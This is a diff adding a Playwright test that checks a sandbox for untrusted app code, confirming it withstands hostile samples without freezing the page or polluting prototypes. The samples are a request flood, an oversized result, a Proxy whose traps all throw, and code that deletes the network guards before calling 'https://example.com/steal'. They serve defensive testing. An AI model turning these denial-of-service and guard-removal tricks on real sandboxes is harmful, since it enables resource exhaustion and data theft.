@@ -1,0 +1,63 @@
+/**
+ * Untrusted app code cannot freeze the page or reach it (issue 18): floods of requests, a huge
+ * result, a thrown Proxy whose traps throw and an undone network guard are each answered at once
+ * with what was cut; the page stays responsive (typing in Monaco echoes within a second), no
+ * property appears on the page's prototypes, and the workspace, world and history are intact.
+ */
+import type { Page } from '@playwright/test';
+import { expect, test } from './fixtures.ts';
+import { hostileZoo, SandboxPage } from './pages/sandbox.ts';
+
+test.describe.configure({ timeout: 180_000 });
+
+const g = '(globalThis as unknown as Record<string, any>)';
+const EVIL_PROXY = "new Proxy({}, { get() { throw 'x'; }, getPrototypeOf() { throw 'x'; }, has() { throw 'x'; }, ownKeys() { throw 'x'; }, getOwnPropertyDescriptor() { throw 'x'; } })";
+
+const CASES: [name: string, code: string, seen: string][] = [
+  [
+    'flood',
+    "                for (let i = 0; i < 20000; i++) { try { await read.getRoomReader().getByName('general'); } catch { /* refused */ } }\n                return true;",
+    "2,001 requests: stopped after 2,000 (hookscope's limit per call); the call was ended",
+  ],
+  ['bigresult', "                return 'x'.repeat(50_000_000) as unknown as boolean;", "cannot be sent to the host: it is"],
+  ['proxy', `                throw ${EVIL_PROXY};`, 'The thrown value cannot be read'],
+  [
+    'unguard',
+    `                delete ${g}['XMLHttpRequest'];\n                delete ${g}['fetch'];\n                await ${g}['fetch']('https://example.com/steal');\n                return true;`,
+    'fetch failed: No HTTP mock matches GET https://example.com/steal',
+  ],
+];
+
+/** Own property names of the page's built-in prototypes. */
+const prototypeNames = (page: Page) =>
+  page.evaluate(() => [Object.prototype, Array.prototype, Function.prototype, String.prototype].map((p) => Object.getOwnPropertyNames(p).sort().join(',')));
+
+/** Typing into Monaco shows up within a second (the page is not frozen). */
+async function expectResponsive(s: SandboxPage, marker: string): Promise<void> {
+  await s.page.getByTestId('editor').locator('.view-lines').click();
+  await s.page.keyboard.press('ControlOrMeta+End');
+  await s.page.keyboard.type(`// ${marker}`);
+  await expect.poll(() => s.wb.editorText(), { timeout: 1000 }).toContain(marker);
+}
+
+test('request floods, a huge result, a thrown Proxy and an undone guard are answered at once; the page stays responsive', async ({ page }) => {
+  const s = new SandboxPage(page);
+  const protoBefore = await (async () => {
+    await s.wb.open();
+    return prototypeNames(page);
+  })();
+  await s.setup(hostileZoo(Object.fromEntries(CASES.map(([name, code]) => [name, code]))), 20_000);
+  for (const [i, [name, , seen]] of CASES.entries()) {
+    await s.createRoom(`evil-${name}`);
+    await expect(s.runEntries()).toHaveCount(i + 1);
+    // Each is answered long before the 20 s timeout, and the host did not believe any "true".
+    await expect(s.answer()).toHaveText('completed', { timeout: 15_000 });
+    await expect(s.latestRun()).toContainText(`evil-${name}`);
+    await expect(s.latestRun()).toContainText(seen);
+    await expect(s.latestRun()).not.toContainText('timed out');
+    await expectResponsive(s, `still-typing-${name}`);
+  }
+  expect(await prototypeNames(page)).toEqual(protoBefore);
+  await s.expectIntact({ editorContains: 'still-typing-unguard', runsBefore: CASES.length });
+  await page.screenshot({ path: 'test-results/untrusted-floods.png' });
+});
